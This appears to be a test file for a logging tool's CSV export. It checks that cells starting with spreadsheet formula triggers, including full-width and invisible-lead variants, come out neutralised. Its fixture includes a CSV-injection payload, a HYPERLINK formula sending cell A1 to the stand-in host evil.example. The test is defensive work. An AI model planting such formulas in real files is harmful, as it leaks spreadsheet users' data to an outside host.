import { readFileSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { seedPrompt, testWorkspace } from '../../../helpers/workspace';
import type { Ctx } from '../../../../src/main/core/context';
import type { LogRecord } from '../../../../src/main/store/repos/logs-repo';
import { resolveFilter } from '../../../../src/main/core/logs/logs-service';
import { LogFilterSchema } from '../../../../src/shared/schemas/logs';

// What a spreadsheet skips before it looks for a formula, and what starts one (OWASP CSV
// injection, plus the full-width forms East Asian Excel reads as the same operators).
const BLANKS = [' ', '\n', '\r', '\r\n', '\t', '\v', '\f', '\u00A0', '\u2028', '\u3000', '\u200B', '\uFEFF', '\u0000', '  \n\t '];
const TRIGGERS = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const TRIGGER_SET = new Set(TRIGGERS);
const PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"x")';

/** One RFC 4180 record split into cells (the test's own reader, independent of the writer). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** True when a spreadsheet would run the cell: a trigger after any blank or invisible lead. */
function runsAsFormula(cell: string): boolean {
  const lead = /^[\s\p{Cc}\p{Cf}]*/u.exec(cell)![0];
  if (cell.startsWith('\t') || cell.startsWith('\r') || cell.startsWith('\0')) return true;
  return TRIGGER_SET.has(cell.charAt(lead.length));
}

let t: ReturnType<typeof testWorkspace>;
let owner: Ctx;
let promptId: string;
const NOW = Date.parse('2026-01-01T00:00:00Z');

function record(output: string, i: number): LogRecord {
  return {
    id: crypto.randomUUID(), promptId, promptName: 'alpha', version: 1, source: 'api', userId: owner.actor.id,
    keyLabel: 'k', model: 'local:echo', status: 'success', startedAt: NOW - i, latencyMs: 100, ttftMs: 10, tokensIn: 3, tokensOut: 4,
    dataLogging: 'full', variableNames: '["x"]', variables: JSON.stringify({ x: output }), messages: '[]', output, outputChars: output.length,
    error: null, conversationId: null,
  };
}

beforeEach(() => {
  t = testWorkspace();
  owner = t.owner;
  seedPrompt(owner, 'alpha', 'A {{x}}');
  promptId = t.workspace.store.prompts.getRowByName('alpha')!.id;
});
afterEach(() => t.cleanup());

async function exportCsv(outputs: string[]): Promise<string[][]> {
  t.workspace.store.logs.insertMany(outputs.map(record));
  const started = t.workspace.runtime.exports.start(owner, resolveFilter(owner, LogFilterSchema.parse({})), 'csv');
  let status = started;
  while (status.state === 'running') {
    await new Promise((r) => setTimeout(r, 5));
    status = t.workspace.runtime.exports.status(owner, started.exportId);
  }
  expect(status.state).toBe('done');
  return parseCsv(readFileSync(status.path!, 'utf8'));
}

describe('CSV export neutralises every spreadsheet trigger', () => {
  it('prefixes a quote for each blank lead x trigger, and leaves text that is not a formula as it was', async () => {
    // A NUL first is a trigger of its own (OWASP ASVS 1.2.10), like a tab or CR.
    const formulas = [...['', ...BLANKS].flatMap((lead) => TRIGGERS.map((trigger) => `${lead}${trigger}${PAYLOAD}`)), '\u0000', '\u0000hello'];
    const plain = ['hello', ' hello', '1-2', 'a=b', 'x@y', '\u00A0text', '"quoted", and, commas', 'line\r\nbreak'];
    const rows = await exportCsv([...formulas, ...plain]);
    const outputColumn = rows[0]!.indexOf('output');
    const exported = rows.slice(1).map((r) => r[outputColumn]!);
    expect(exported).toHaveLength(formulas.length + plain.length);
    const quoted = exported.filter((cell) => !plain.includes(cell));
    // Each formula comes back once, as a quote then the original text.
    expect(quoted.sort()).toEqual(formulas.map((f) => `'${f}`).sort());
    expect(exported.filter((cell) => plain.includes(cell)).sort()).toEqual([...plain].sort());
  });
});

describe('csvCell (property)', () => {
  const piece = fc.oneof(fc.constantFrom(...BLANKS, ...TRIGGERS, '"', ',', "'"), fc.string({ unit: 'grapheme', maxLength: 4 }));
  const cellText = fc.array(piece, { maxLength: 8 }).map((parts) => parts.join(''));

  it('every string reads back as itself or as a quote plus itself, and never runs as a formula', async () => {
    const { csvCell } = await import('../../../../src/main/core/logs/csv-cell');
    fc.assert(
      fc.property(cellText, (text) => {
        const cell = parseCsv(`${csvCell(text)}\r\n`)[0]?.[0] ?? '';
        expect([text, `'${text}`]).toContain(cell);
        expect(runsAsFormula(cell)).toBe(false);
        // The quote is only added when needed: plain text survives untouched.
        if (!runsAsFormula(text)) expect(cell).toBe(text);
      }),
      { numRuns: 2000 },
    );
  });
});
